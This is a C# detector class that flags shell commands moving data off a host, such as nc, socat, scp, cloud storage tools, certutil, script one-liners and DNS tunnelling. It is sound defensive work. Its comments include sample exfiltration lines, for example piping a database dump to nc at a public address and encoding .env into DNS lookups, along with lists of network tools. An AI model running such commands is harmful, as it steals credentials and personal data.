using Custos.Detection.Scanning;

namespace Custos.Detection.Exfiltration;

/// <summary>
/// Shell commands that move data off the host without an HTTP client: raw sockets (nc, ncat, socat, openssl
/// s_client, bash's /dev/tcp), remote copies (scp, rsync, sftp, ssh with input piped in), cloud storage (aws s3,
/// gsutil, az storage, rclone), Windows transfer tools (bitsadmin, certutil), script one-liners (node -e,
/// python -c) that post the environment, and DNS lookups (ping, host) whose name is built from data. A command
/// carries data out when what it sends is worth stealing (keys, credential files, the environment, the home
/// folder's documents) and where it sends it is outside (a public address, a named host or bucket, not a variable
/// a CI script fills, not an internal host).
/// </summary>
internal static class TransferCommand
{
    /// <summary>How far the head check looks after a command name, so a common word ("host", "node") costs little.</summary>
    private const int HeadReach = 48;

    public enum Tool
    {
        None,
        Socket,
        Copy,
        Cloud,
        Shell,
        Script,
        Dns,
        Windows,
        DevTcp,

        /// <summary>lftp, tftp, smbclient: a file pushed to a host named bare ("ftp.x.example", "//192.0.2.7/share").</summary>
        Drop,

        /// <summary>magic-wormhole and croc: a file handed to whoever holds a code, through a public relay.</summary>
        Relay,

        /// <summary>"gh gist create --public": a file published for anyone to read.</summary>
        Gist,

        /// <summary>redis-cli, kcat, mosquitto_pub: a value or message written to a store or broker named by an option ("-h host", "-b broker").</summary>
        Broker,

        /// <summary>SELECT … INTO OUTFILE: a query's rows written to a file (see <see cref="SqlSinks"/>).</summary>
        Query,
    }

    private enum Place
    {
        None,
        Variable,
        Internal,
        External,
    }

    /// <summary>The command names that trigger this check, and "/dev/tcp/".</summary>
    public static readonly string[] Names =
    [
        "nc", "ncat", "netcat", "socat", "openssl", "scp", "rsync", "sftp", "ssh", "aws", "gsutil", "az", "rclone", "bitsadmin", "certutil", "node", "python", "python3", "ping", "host",
        "lftp", "tftp", "smbclient", "wormhole", "croc", "autossh",
        "gh gist", "redis-cli", "kcat", "kafkacat", "mosquitto_pub",
        "/dev/tcp/", "/dev/udp/", .. SqlSinks.Names,
    ];

    private static readonly string[] InternalLabels = ["internal", "intern", "interne", "local", "lan", "corp", "home", "intranet", "localdomain", "localhost", "内网"];

    private static readonly string[] EnvironmentDumps = ["printenv", "get-childitem env:", "gci env:", "/proc/self/environ"];

    private static readonly string[] NetworkSinks = ["fetch(", "http.request", "https.request", "request(", "urlopen", "requests.post", "requests.put", "axios", "xmlhttprequest", "socket", "http://", "https://", "http.client"];

    private static readonly string[] HomeRoots = ["~/", "~\\", "$home/", "$home\\", "${home}/", "%userprofile%", "$env:userprofile", "/home/", "/users/", "c:\\users\\"];

    private static readonly System.Buffers.SearchValues<char> PathChars = System.Buffers.SearchValues.Create("/\\~.$%");

    private static readonly string[] QuietFlags = [" --quiet", " -q ", " -q\t", " --only-show-errors", " --no-progress", " -qq"];

    /// <summary>Which tool the name at [start, end) starts, judged from a few characters after it (None: not a command).</summary>
    public static Tool Head(string text, int start, int end)
    {
        var name = text.AsSpan(start, end - start);
        if (name[0] == '/')
        {
            return Tool.DevTcp;
        }

        var after = text.AsSpan(end, Math.Min(HeadReach, text.Length - end)).TrimStart(" \t");
        var next = after[..Math.Max(0, after.IndexOfAny(" \t\n") is var s and >= 0 ? s : after.Length)];
        if (next.IsEmpty)
        {
            return Tool.None;
        }

        if (name.Length > 10 && name[0] is 'i' or 'I')
        {
            return SqlSinks.Starts(name, next) ? Tool.Query : Tool.None; // "INTO OUTFILE '/var/www/…'"
        }

        switch (name.Length)
        {
            case 2 when name.Equals("nc", StringComparison.OrdinalIgnoreCase):
                return next[0] == '-' || char.IsAsciiDigit(next[0]) || next.Contains('.') ? Tool.Socket : Tool.None;
            case 2: // az
                return next.Equals("storage", StringComparison.OrdinalIgnoreCase) ? Tool.Cloud : Tool.None;
            case 3 when name.Equals("aws", StringComparison.OrdinalIgnoreCase):
                return next.Equals("s3", StringComparison.OrdinalIgnoreCase) ? Tool.Cloud : Tool.None;
            case 3 when name.Equals("ssh", StringComparison.OrdinalIgnoreCase):
                return next[0] == '-' || next.Contains('@') ? Tool.Shell : Tool.None;
            case 4 when name.Equals("node", StringComparison.OrdinalIgnoreCase):
                return next is "-e" or "-p" or "--eval" or "--print" ? Tool.Script : Tool.None;
            case 4 or 9 when name.Equals("lftp", StringComparison.OrdinalIgnoreCase) || name.Equals("tftp", StringComparison.OrdinalIgnoreCase) || name.Equals("smbclient", StringComparison.OrdinalIgnoreCase):
                return Tool.Drop;
            case 4 or 8 when name.Equals("croc", StringComparison.OrdinalIgnoreCase) || name.Equals("wormhole", StringComparison.OrdinalIgnoreCase):
                return next.Equals("send", StringComparison.OrdinalIgnoreCase) ? Tool.Relay : Tool.None;
            case 7 when name.Equals("autossh", StringComparison.OrdinalIgnoreCase):
                return next[0] == '-' || next.Contains('@') ? Tool.Shell : Tool.None;
            case 4 when name.Equals("ping", StringComparison.OrdinalIgnoreCase):
            case 4 when name.Equals("host", StringComparison.OrdinalIgnoreCase):
                return next[0] is '-' or '$' or '`' || next.Contains('.') ? Tool.Dns : Tool.None;
            case 6 when name.Equals("python", StringComparison.OrdinalIgnoreCase):
            case 7 when name.Equals("python3", StringComparison.OrdinalIgnoreCase):
                return next is "-c" ? Tool.Script : Tool.None;
            case 6 when name.Equals("gsutil", StringComparison.OrdinalIgnoreCase):
            case 6 when name.Equals("rclone", StringComparison.OrdinalIgnoreCase):
                return Tool.Cloud;
            case 7 when name.Equals("openssl", StringComparison.OrdinalIgnoreCase):
                return next.Equals("s_client", StringComparison.OrdinalIgnoreCase) ? Tool.Socket : Tool.None;
            case 8 or 9 when name.Equals("certutil", StringComparison.OrdinalIgnoreCase) || name.Equals("bitsadmin", StringComparison.OrdinalIgnoreCase):
                return Tool.Windows;
            case 3 or 4 or 5 or 6 when name.Equals("scp", StringComparison.OrdinalIgnoreCase) || name.Equals("rsync", StringComparison.OrdinalIgnoreCase) || name.Equals("sftp", StringComparison.OrdinalIgnoreCase):
                return Tool.Copy;
            case 7 when name.Equals("gh gist", StringComparison.OrdinalIgnoreCase):
                return next.Equals("create", StringComparison.OrdinalIgnoreCase) ? Tool.Gist : Tool.None;
            case 4 or 8 or 9 or 13 when name[0] is 'r' or 'R' or 'k' or 'K' or 'm' or 'M':
                return Tool.Broker; // redis-cli, kcat, kafkacat, mosquitto_pub
            default:
                return Tool.Socket; // ncat, netcat, socat
        }
    }

    /// <summary>
    /// The reasons the command of <paramref name="tool"/> at [start, end) carries data out, with their weights (empty:
    /// it does not), and the host it sends to.
    /// </summary>
    public static List<(string Reason, double Weight)> Inspect(string text, int start, int nameEnd, int end, Tool tool, ScanWork work, out string? host)
    {
        host = null;
        var reasons = new List<(string, double)>();
        var command = text.AsSpan(start, end - start);
        var args = text.AsSpan(nameEnd, end - nameEnd);
        var stop = tool == Tool.Drop ? args.IndexOfAny("|#\u2014") : args.IndexOfAny("|;#\u2014"); // lftp's and smbclient's quoted scripts hold ';'
        var own = stop >= 0 ? args[..stop] : args; // this command's arguments, up to the next command or comment
        switch (tool)
        {
            case Tool.Script:
                Script(command, reasons);
                return reasons;
            case Tool.Dns:
                Dns(text, start, command, work, reasons);
                return reasons;
            case Tool.Query:
                SqlSinks.Inspect(command, nameEnd - start, LineBefore(text, start, work), reasons);
                return reasons;
            default:
                break;
        }

        var (destination, place) = tool switch
        {
            Tool.DevTcp => DevTcpDestination(own),
            Tool.Socket => SocketDestination(own),
            Tool.Windows => WindowsDestination(own),
            Tool.Drop => DropDestination(own),
            Tool.Relay => ("a relay, to whoever holds the code", Place.External),
            Tool.Gist => PublicGist(own) ? ("a public gist", Place.External) : ("", Place.None),
            Tool.Broker => BrokerDestination(own),
            _ => CopyDestination(own, tool),
        };

        if (place is Place.None or Place.Internal)
        {
            return reasons;
        }

        host = tool is Tool.Relay or Tool.Gist ? null : (destination.Contains("://", StringComparison.Ordinal) ? UrlInspector.Host(destination) : HostOf(destination)).ToString();
        if (tool == Tool.Shell && place == Place.External && StandingAccess.ReverseTunnel(own) is { } tunnel)
        {
            reasons.Add(($"{tunnel.Reason} ({destination.ToString()})", tunnel.Weight));
        }

        // What goes: piped in, redirected in, or named as an argument (not an identity file or an option's value).
        var readable = tool == Tool.Cloud && PublicAcl(own);
        var source = Sourced(text, start, own, tool, destination, work, readable);
        if (source is null && tool == Tool.Gist && CommandInspector.FindSensitive(LineBefore(text, start, work)) is { } namedBefore)
        {
            source = ($"{namedBefore}, named just before it", 0.8); // "publish ~/.aws/credentials with `gh gist create --public`"
        }

        if (source is not { } found)
        {
            return reasons;
        }

        if (readable)
        {
            reasons.Add(("made readable by anyone", 0.3)); // "aws s3 cp customers.csv s3://x/ --acl public-read"
        }

        if (found.Weight >= 0.45 && StandingAccess.Scheduled(text, start, end, work))
        {
            reasons.Add(("installed to run again on a schedule", 0.3));
        }

        if (place == Place.Variable)
        {
            if (found.Weight >= 0.9)
            {
                reasons.Add(($"copies {found.What} to a destination held in a variable", 0.3));
            }

            return reasons;
        }

        reasons.Add(($"sends {found.What} to {destination.ToString()}", found.Weight));
        if (tool is Tool.Socket or Tool.DevTcp && IsPublicAddress(HostOf(destination)))
        {
            reasons.Add(("over a raw connection to a public address", 0.3));
        }

        if (tool == Tool.Windows && command.Contains("-urlcache", StringComparison.OrdinalIgnoreCase))
        {
            reasons.Add(("after fetching a program with certutil", 0.3));
        }

        if (TemporaryConfig(command))
        {
            reasons.Add(("with a configuration taken from a temporary folder", 0.3)); // "--config /tmp/r.conf": a destination set up by someone else
        }

        if (tool == Tool.Drop && found.Weight < 0.9 && own.Contains("anonymous", StringComparison.OrdinalIgnoreCase))
        {
            reasons.Add(("to an anonymous drop anyone can log in to", 0.3)); // "lftp -u anonymous, -e \"mirror -R ~/Documents /incoming\" ftp.x.example"
        }

        foreach (var flag in QuietFlags)
        {
            if (command.Contains(flag, StringComparison.OrdinalIgnoreCase) || command.EndsWith(flag.TrimEnd(), StringComparison.OrdinalIgnoreCase))
            {
                reasons.Add(("with its output silenced", 0.2));
                break;
            }
        }

        return reasons;
    }

    private static (string What, double Weight)? Sourced(string text, int start, ReadOnlySpan<char> own, Tool tool, ReadOnlySpan<char> destination, ScanWork work, bool readable)
    {
        if (CommandInspector.PipedSource(text, start, work) is { } piped)
        {
            return (piped, 0.9);
        }

        if (LineBefore(text, start, work) is var before && before.LastIndexOf('|') is var pipe and >= 0 && HomeData(before[..pipe]))
        {
            return ("files from the home folder piped in", 0.45);
        }

        if (DumpSources.Piped(before) is { } dump)
        {
            return ($"{dump} piped in", tool is Tool.Copy or Tool.Shell or Tool.Cloud ? DumpSources.CopyWeight : DumpSources.Weight); // "sqlite3 app.db .dump | nc 198.51.100.23 9000"
        }

        if (tool == Tool.DevTcp)
        {
            var line = LineBefore(text, start, work);
            return CommandInspector.FindSensitive(line) is { } sensitive ? (sensitive, 0.9) : DumpsEnvironment(line) ? ("the environment", 0.9) : HomeData(line) ? ("files from the home folder", 0.45)
                : DumpSources.Reads(line) is { } dumped ? (dumped, DumpSources.Weight) : null;
        }

        var redirect = own.IndexOf('<');
        if (redirect >= 0)
        {
            var file = Token(own[(redirect + 1)..].TrimStart('<'));
            if (CommandInspector.FindSensitive(file) is { } sensitive)
            {
                return (sensitive, 0.9);
            }

            if (HomeData(file))
            {
                return ("files from the home folder", 0.45);
            }
        }

        if (tool == Tool.Socket && SocatFile(own) is { } socatFile)
        {
            return socatFile;
        }

        if (tool is Tool.Socket or Tool.Shell)
        {
            return null; // nc, socat and ssh send only what comes in; their arguments are options (an identity file) and the address
        }

        (string, double)? best = null;
        var skipNext = false;
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t");
            if (token.IsEmpty)
            {
                continue;
            }

            if (skipNext)
            {
                skipNext = false;
                if (!IsFileOption(token))
                {
                    continue;
                }
            }

            if (token[0] == '-' || token[0] == '/' && tool == Tool.Windows && token.Length < 12 && !token.Contains('\\'))
            {
                // Options; those that take a value name an identity file, a port, a config, not what is sent. "--file" and "/upload" name what is.
                skipNext = !IsFileOption(token) && token.Length == 2 && token[1] is 'i' or 'e' or 'F' or 'P' or 'o' or 'p' or 'l' or 'c';
                continue;
            }

            if (token.SequenceEqual(destination))
            {
                continue;
            }

            if (CommandInspector.FindSensitive(token) is { } sensitive)
            {
                return (sensitive, 0.9);
            }

            if (best is null && HomeData(token))
            {
                best = ("files from the home folder", 0.45); // a backup of ~/Documents to the user's own NAS looks the same
            }
            else if (tool == Tool.Relay && best is null && !token.Equals("send", StringComparison.OrdinalIgnoreCase))
            {
                // A relay hands the file to a stranger with the code: a data export's name is enough ("wormhole send ./customer-exports").
                best = DataExport(token) ? ("a data export", 0.5) : ("a file", 0.35);
            }
            else if ((readable || tool == Tool.Gist) && best is null && DataExport(token))
            {
                best = ("a data export", 0.5); // published for anyone: "aws s3 cp customers_full.csv s3://x/ --acl public-read"
            }
        }

        return best;
    }

    /// <summary>"gh gist create --public" or "-p": a gist anyone can find (a secret gist is still a URL to share, but not listed).</summary>
    private static bool PublicGist(ReadOnlySpan<char> own)
    {
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t`");
            if (token.Equals("--public", StringComparison.Ordinal) || token.Equals("-p", StringComparison.Ordinal))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>An object made readable by anyone: "--acl public-read", gsutil's "-a public-read", "allUsers".</summary>
    private static bool PublicAcl(ReadOnlySpan<char> own) =>
        own.Contains("public-read", StringComparison.OrdinalIgnoreCase) || own.Contains("allusers", StringComparison.OrdinalIgnoreCase);

    /// <summary>The host a store or broker client writes to: the value of "-h", "-b", "--host", "--broker", "-L" or "-u" (a URL), or none (the local one).</summary>
    private static (string, Place) BrokerDestination(ReadOnlySpan<char> own)
    {
        var hostNext = false;
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t`");
            if (token.IsEmpty)
            {
                continue;
            }

            if (hostNext)
            {
                var host = token.Contains("://", StringComparison.Ordinal) ? UrlInspector.Host(token) : HostOf(token);
                return (token.ToString(), HostPlace(host));
            }

            hostNext = token is "-h" or "-b" or "--host" or "--broker" or "-L" or "-u" or "--url";
        }

        return ("", Place.None);
    }

    // Names of files and folders that hold many people's records or a whole system's data.
    private static readonly string[] ExportNames = ["customer", "client", "export", "dump", "payroll", "users", "backup", "kunden", "clientes", "clienti", "klanten", ".sql", ".csv", ".bak"];

    private static bool DataExport(ReadOnlySpan<char> token)
    {
        foreach (var name in ExportNames)
        {
            if (token.Contains(name, StringComparison.OrdinalIgnoreCase))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>What socat reads from a file address ("FILE:$HOME/.kube/config", "OPEN:/etc/shadow") and sends to its other address.</summary>
    private static (string What, double Weight)? SocatFile(ReadOnlySpan<char> own)
    {
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t`");
            var colon = token.IndexOf(':');
            if (colon is < 4 or > 5 || !(token.StartsWith("file:", StringComparison.OrdinalIgnoreCase) || token.StartsWith("open:", StringComparison.OrdinalIgnoreCase) || token.StartsWith("gopen:", StringComparison.OrdinalIgnoreCase)))
            {
                continue;
            }

            var path = token[(colon + 1)..];
            var comma = path.IndexOf(',');
            path = comma >= 0 ? path[..comma] : path;
            if (CommandInspector.FindSensitive(path) is { } sensitive)
            {
                return (sensitive, 0.9);
            }

            if (HomeData(path))
            {
                return ("files from the home folder", 0.45);
            }
        }

        return null;
    }

    /// <summary>
    /// The host lftp, tftp and smbclient push to: "//host/share", a URL, "user@host", an address, or a bare name with a
    /// dot that is no file's name ("ftp.drop.example", not "notes.txt").
    /// </summary>
    private static (string, Place) DropDestination(ReadOnlySpan<char> own)
    {
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t`");
            if (token.IsEmpty || token[0] is '-' or '~' or '.' or '$')
            {
                continue;
            }

            if (token.StartsWith("//", StringComparison.Ordinal) || token.StartsWith("\\\\", StringComparison.Ordinal))
            {
                var rest = token[2..];
                var slash = rest.IndexOfAny('/', '\\');
                var host = slash >= 0 ? rest[..slash] : rest;
                return (host.ToString(), HostPlace(host));
            }

            if (token.Contains("://", StringComparison.Ordinal))
            {
                return (token.ToString(), Variable(token) ? Place.Variable : HostPlace(UrlInspector.Host(token)));
            }

            if (token.Contains('/') || token.Contains(';'))
            {
                continue;
            }

            var host2 = HostOf(token);
            var dot = host2.LastIndexOf('.');
            if (IsIp(host2) || dot > 0 && dot < host2.Length - 2 && !host2[(dot + 1)..].ContainsAnyExceptInRange('a', 'z') && !FileExtension(host2[(dot + 1)..]))
            {
                return (token.ToString(), HostPlace(host2));
            }
        }

        return ("", Place.None);
    }

    private static readonly string[] FileExtensions = ["txt", "json", "yml", "yaml", "conf", "cfg", "ini", "pem", "key", "tgz", "gz", "zip", "tar", "pdf", "csv", "sql", "db", "log", "xml", "env", "sh", "py", "bin", "img", "iso", "md", "doc", "docx", "xlsx", "jpg", "png", "bak", "dat", "crt", "kdbx", "ovpn"];

    private static bool FileExtension(ReadOnlySpan<char> ext)
    {
        foreach (var e in FileExtensions)
        {
            if (ext.Equals(e, StringComparison.OrdinalIgnoreCase))
            {
                return true;
            }
        }

        return false;
    }

    // Options that name the configuration or credentials a transfer tool uses, and the folders anyone can write to.
    private static readonly string[] ConfigOptions = ["--config ", "--config=", "-F ", "--rclone-config ", "--credentials-file ", "--credentials-file="];
    private static readonly string[] TemporaryFolders = ["/tmp/", "/var/tmp/", "/dev/shm/", "%temp%", "$env:temp"];

    /// <summary>A configuration read from a temporary folder: "rclone copy … --config /tmp/r.conf", "scp -F /tmp/c …".</summary>
    private static bool TemporaryConfig(ReadOnlySpan<char> command)
    {
        foreach (var option in ConfigOptions)
        {
            var at = command.IndexOf(option, StringComparison.Ordinal);
            if (at < 0)
            {
                continue;
            }

            var value = Token(command[(at + option.Length)..]);
            foreach (var folder in TemporaryFolders)
            {
                if (value.StartsWith(folder, StringComparison.OrdinalIgnoreCase))
                {
                    return true;
                }
            }
        }

        return false;
    }

    private static bool IsFileOption(ReadOnlySpan<char> token) =>
        token.Equals("--file", StringComparison.OrdinalIgnoreCase) || token.Equals("-f", StringComparison.Ordinal) || token.Equals("/upload", StringComparison.OrdinalIgnoreCase)
        || token.Equals("--upload", StringComparison.OrdinalIgnoreCase) || token.Equals("--source", StringComparison.OrdinalIgnoreCase) || token.Equals("-s", StringComparison.Ordinal);

    private static ReadOnlySpan<char> LineBefore(string text, int start, ScanWork work)
    {
        var from = start;
        while (from > 0 && start - from < 300 && text[from - 1] != '\n')
        {
            from--;
        }

        work.TriggerChars += start - from;
        return text.AsSpan(from, start - from);
    }

    /// <summary>"node -e" or "python -c" code that posts the whole environment, or a key or credential file, somewhere.</summary>
    private static void Script(ReadOnlySpan<char> command, List<(string, double)> reasons)
    {
        var network = false;
        foreach (var sink in NetworkSinks)
        {
            if (command.Contains(sink, StringComparison.OrdinalIgnoreCase))
            {
                network = true;
                break;
            }
        }

        if (!network)
        {
            return;
        }

        if (WholeEnvironment(command, "process.env") || WholeEnvironment(command, "os.environ"))
        {
            reasons.Add(("script sends the whole environment over the network", 0.9));
        }
        else if (CommandInspector.FindSensitive(command) is { } sensitive)
        {
            reasons.Add(($"script sends {sensitive} over the network", 0.85));
        }
    }

    /// <summary>The environment as a whole ("JSON.stringify(process.env)", "dict(os.environ)"), not one variable of it ("process.env.NODE_ENV", "os.environ.get('HOME')").</summary>
    private static bool WholeEnvironment(ReadOnlySpan<char> code, string name)
    {
        var from = 0;
        while (from < code.Length)
        {
            var at = code[from..].IndexOf(name, StringComparison.Ordinal);
            if (at < 0)
            {
                return false;
            }

            var after = from + at + name.Length;
            if (after >= code.Length || code[after] is not ('.' or '['))
            {
                return true;
            }

            from = after;
        }

        return false;
    }

    /// <summary>A lookup (ping, host, dig, nslookup) whose name is built from data: command substitution, or a variable label fed from a secret.</summary>
    internal static void Dns(string text, int start, ReadOnlySpan<char> command, ScanWork work, List<(string, double)> reasons)
    {
        // Command substitution: "$(…)" or a pair of backticks (one backtick alone closes the code span the command is quoted in).
        if (command.Contains("$(", StringComparison.Ordinal) || command.Count('`') >= 2)
        {
            foreach (var r in CommandInspector.Inspect(text, start, start + command.Length, work, out _))
            {
                if (r.Reason.StartsWith("command substitution", StringComparison.Ordinal))
                {
                    reasons.Add(r);
                }
            }

            return;
        }

        // "for l in $(cat .env | base64); do dig $l.x.example; done", "env | base64 | xargs -I{} nslookup {}.t.example": a label filled in from earlier on the line.
        var before = LineBefore(text, start, work);
        if (!HasDataLabel(command, XargsPlaceholder(before)))
        {
            return;
        }

        if (CommandInspector.FindSensitive(before) is { } sensitive)
        {
            reasons.Add(($"looks up names built from {sensitive}", 0.85));
        }
        else if (DumpsEnvironment(before))
        {
            reasons.Add(("looks up names built from the environment", 0.85));
        }
    }

    /// <summary>A name with a variable or a placeholder as one of its labels: "$l.x.example", "{}.t.example", "%d%.x.example".</summary>
    private static bool HasDataLabel(ReadOnlySpan<char> command, ReadOnlySpan<char> placeholder)
    {
        foreach (var range in command.Split(' '))
        {
            var token = command[range];
            var dot = token.IndexOf('.');
            if (dot > 0 && (token[0] is '$' or '{' or '%' || !placeholder.IsEmpty && token.StartsWith(placeholder, StringComparison.Ordinal)) && token[(dot + 1)..].Contains('.'))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>The placeholder "xargs -I" defines earlier on the line ("-I@", "-I {}"), or empty.</summary>
    private static ReadOnlySpan<char> XargsPlaceholder(ReadOnlySpan<char> before)
    {
        var at = before.LastIndexOf("xargs", StringComparison.Ordinal);
        if (at < 0)
        {
            return [];
        }

        var flag = before[at..].IndexOf("-I", StringComparison.Ordinal);
        return flag < 0 ? [] : Token(before[(at + flag + 2)..]);
    }

    private static bool DumpsEnvironment(ReadOnlySpan<char> span)
    {
        foreach (var dump in EnvironmentDumps)
        {
            if (span.Contains(dump, StringComparison.OrdinalIgnoreCase))
            {
                return true;
            }
        }

        var trimmed = span.TrimStart();
        return trimmed.StartsWith("env ", StringComparison.Ordinal) || trimmed.StartsWith("env|", StringComparison.Ordinal) || span.Contains("$(env", StringComparison.Ordinal)
            || span.Contains("| env ", StringComparison.Ordinal);
    }

    /// <summary>A path under a home folder ("~/Documents", "%USERPROFILE%\Desktop", "/home/alice/…"), not the home folder's own name alone.</summary>
    internal static bool HomeData(ReadOnlySpan<char> span)
    {
        foreach (var root in HomeRoots)
        {
            var at = span.IndexOf(root, StringComparison.OrdinalIgnoreCase);
            if (at >= 0 && (at == 0 || span[at - 1] is ' ' or '"' or '\'' or '=' or '(' or '<'))
            {
                return true;
            }
        }

        return false;
    }

    private static ReadOnlySpan<char> Token(ReadOnlySpan<char> span)
    {
        span = span.TrimStart(" \t\"'");
        var end = span.IndexOfAny(" \t\"'");
        return end >= 0 ? span[..end] : span;
    }

    private static (string, Place) SocketDestination(ReadOnlySpan<char> own)
    {
        var skipNext = false;
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t");
            if (token.IsEmpty || token[0] == '<' || token.SequenceEqual("-") || token.Equals("s_client", StringComparison.OrdinalIgnoreCase))
            {
                continue;
            }

            if (skipNext)
            {
                skipNext = false;
                if (!token.Contains(':'))
                {
                    continue;
                }
            }

            if (token[0] == '-')
            {
                skipNext = token.Equals("-connect", StringComparison.OrdinalIgnoreCase) ? false : token.Length == 2 && token[1] is 'p' or 'w' or 'i' or 's' or 'x';
                continue;
            }

            // socat's "TCP:host:port", "TCP4:…", openssl's "host:port"; its other address types ("FILE:…", "EXEC:…") are local.
            var kind = token.IndexOf(':');
            if (kind > 0 && token[..kind].ContainsAnyExceptInRange('A', 'Z') is false && !token.StartsWith("tcp", StringComparison.OrdinalIgnoreCase)
                && !token.StartsWith("udp", StringComparison.OrdinalIgnoreCase) && !token.StartsWith("openssl", StringComparison.OrdinalIgnoreCase))
            {
                continue;
            }

            if (token.StartsWith("tcp", StringComparison.OrdinalIgnoreCase) || token.StartsWith("udp", StringComparison.OrdinalIgnoreCase) || token.StartsWith("openssl:", StringComparison.OrdinalIgnoreCase))
            {
                var colon = token.IndexOf(':');
                if (colon < 0)
                {
                    continue;
                }

                token = token[(colon + 1)..];
            }

            var host = HostOf(token);
            if (host.IsEmpty || token.StartsWith("listen", StringComparison.OrdinalIgnoreCase))
            {
                return ("", Place.None);
            }

            return (token.ToString(), HostPlace(host));
        }

        return ("", Place.None);
    }

    private static (string, Place) DevTcpDestination(ReadOnlySpan<char> own)
    {
        var token = Token(own);
        var slash = token.IndexOf('/');
        var host = slash >= 0 ? token[..slash] : token;
        return (host.ToString(), HostPlace(host));
    }

    private static (string, Place) WindowsDestination(ReadOnlySpan<char> own)
    {
        var scheme = own.IndexOf("://", StringComparison.Ordinal);
        if (scheme < 0)
        {
            return ("", Place.None);
        }

        var from = scheme;
        while (from > 0 && char.IsAsciiLetter(own[from - 1]))
        {
            from--;
        }

        var url = Token(own[from..]);
        return (url.ToString(), HostPlace(UrlInspector.Host(url)));
    }

    /// <summary>The remote end of scp, rsync, sftp, ssh and the storage tools: "user@host:path", "s3://bucket", "remote:path".</summary>
    private static (string, Place) CopyDestination(ReadOnlySpan<char> own, Tool tool)
    {
        var found = "";
        var place = Place.None;
        var account = false;
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t");
            if (token.IsEmpty || token[0] == '-')
            {
                account = token.Equals("--account-name", StringComparison.OrdinalIgnoreCase) || token.Equals("--account-url", StringComparison.OrdinalIgnoreCase);
                continue;
            }

            Place here;
            if (account)
            {
                account = false;
                here = Variable(token) ? Place.Variable : Place.External; // "az storage blob upload --account-name NAME": a storage account named outright
            }
            else if (token.Contains("://", StringComparison.Ordinal))
            {
                var host = UrlInspector.Host(token);
                here = Variable(token) ? Place.Variable
                    : token.StartsWith("http", StringComparison.OrdinalIgnoreCase) ? HostPlace(host)
                    : tool == Tool.Cloud ? Place.External : Place.None;
            }
            else if (token.IndexOf('@') is var at and > 0 && (tool is Tool.Shell || token[(at + 1)..].Contains(':')))
            {
                var rest = token[(at + 1)..];
                var colon = rest.IndexOf(':');
                here = HostPlace(colon >= 0 ? rest[..colon] : rest);
            }
            else if (tool is Tool.Cloud && token.IndexOf(':') is var colon and > 1 && token[..colon].IndexOfAny(PathChars) < 0 && !token.Contains("://", StringComparison.Ordinal))
            {
                here = Place.External; // an rclone remote: "remote:path"
            }
            else
            {
                continue;
            }

            if (here > place)
            {
                (found, place) = (token.ToString(), here);
            }
        }

        return (found, place);
    }

    private static bool Variable(ReadOnlySpan<char> token) => token.IndexOfAny('$', '%', '{') >= 0;

    private static ReadOnlySpan<char> HostOf(ReadOnlySpan<char> token)
    {
        var at = token.LastIndexOf('@');
        if (at >= 0)
        {
            token = token[(at + 1)..];
        }

        var colon = token.IndexOf(':');
        return colon >= 0 ? token[..colon] : token;
    }

    private static Place HostPlace(ReadOnlySpan<char> host)
    {
        host = host.Trim("[]/");
        if (host.IsEmpty)
        {
            return Place.None;
        }

        if (Variable(host))
        {
            return Place.Variable;
        }

        if (IsIp(host))
        {
            return IsPublicAddress(host) ? Place.External : Place.Internal;
        }

        var dot = host.LastIndexOf('.');
        if (dot < 0)
        {
            return Place.Internal; // a name from ssh config or the local network
        }

        var last = host[(dot + 1)..];
        foreach (var label in InternalLabels)
        {
            if (last.Equals(label, StringComparison.OrdinalIgnoreCase))
            {
                return Place.Internal;
            }
        }

        return Place.External;
    }

    private static bool IsIp(ReadOnlySpan<char> host)
    {
        var dots = 0;
        foreach (var c in host)
        {
            if (c == '.')
            {
                dots++;
            }
            else if (!char.IsAsciiDigit(c))
            {
                return false;
            }
        }

        return dots == 3;
    }

    private static bool IsPublicAddress(ReadOnlySpan<char> host)
    {
        if (!IsIp(host))
        {
            return false;
        }

        Span<Range> parts = stackalloc Range[5];
        var n = host.Split(parts, '.');
        if (n != 4 || !int.TryParse(host[parts[0]], out var a) || !int.TryParse(host[parts[1]], out var b))
        {
            return false;
        }

        return !(a is 10 or 127 or 0 || a == 192 && b == 168 || a == 172 && b is >= 16 and <= 31 || a == 169 && b == 254);
    }
}
